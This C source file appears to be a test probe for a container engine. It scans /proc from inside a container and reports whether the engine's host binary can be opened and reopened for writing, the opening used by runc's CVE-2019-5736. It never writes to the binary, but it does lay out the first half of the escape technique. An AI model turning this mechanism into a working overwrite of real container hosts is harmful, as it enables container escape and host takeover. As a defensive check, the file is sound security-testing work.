/*
 * exe_attack: runc's CVE-2019-5736, tried from inside a container.
 *
 * The engine's own processes pass through the container: the process
 * that becomes PID 1, the one `exec` forks into the container, and with
 * --init the init for the container's whole life. While such a process
 * runs the engine's binary, /proc/PID/exe is a door to that host file.
 * This probe scans /proc over and over; for every process whose exe is
 * not this probe's own file it prints
 *
 *     FOREIGN pid                  it could open /proc/PID/exe
 *     WRITABLE pid                 ... and reopen it for writing
 *
 * It never writes a byte: opening for writing is proof enough. A safe
 * engine makes both lines impossible (its processes are non-dumpable
 * until they exec the image's command, and --init runs from a sealed
 * memfd).
 *
 *     exe_attack SECONDS    scan for that long (or until /tmp/stop exists),
 *                           then print "done N" (N scans)
 *     exe_attack stop       make /tmp/stop
 *     exe_attack            exit 0 at once (the command `exec` runs)
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 2)
        return 0;
    if (strcmp(argv[1], "stop") == 0)
        return close(open("/tmp/stop", O_WRONLY | O_CREAT, 0644)) != 0;
    int seconds = atoi(argv[1]);
    struct stat self;
    if (stat("/proc/self/exe", &self) != 0) {
        perror("stat /proc/self/exe");
        return 2;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    time_t end = time(NULL) + seconds;
    long scans = 0;
    while (time(NULL) < end && access("/tmp/stop", F_OK) != 0) {
        DIR *proc = opendir("/proc");
        if (!proc)
            return 3;
        struct dirent *e;
        while ((e = readdir(proc)) != NULL) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid())
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            struct stat st;
            if (fstat(fd, &st) == 0 && (st.st_dev != self.st_dev || st.st_ino != self.st_ino)) {
                printf("FOREIGN %d\n", pid);
                /* Reopen the very file through our descriptor, for writing:
                 * what the CVE's exploit does once the engine has exited. */
                char again[64];
                snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
                for (int i = 0; i < 200; i++) {
                    int w = open(again, O_WRONLY | O_CLOEXEC);
                    if (w >= 0) {
                        printf("WRITABLE %d\n", pid);
                        close(w);
                        break;
                    }
                    usleep(1000);
                }
            }
            close(fd);
        }
        closedir(proc);
        scans++;
    }
    printf("done %ld\n", scans);
    return 0;
}
